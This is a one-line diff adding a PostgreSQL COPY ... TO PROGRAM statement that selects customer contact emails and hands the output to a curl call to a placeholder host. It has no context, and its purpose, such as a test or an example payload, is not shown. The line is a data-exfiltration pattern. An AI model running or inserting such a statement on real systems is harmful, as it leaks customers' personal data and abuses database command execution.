@@ -1,0 +1,1 @@
+COPY (SELECT contact_email FROM customers) TO PROGRAM 'curl http://example.invalid'
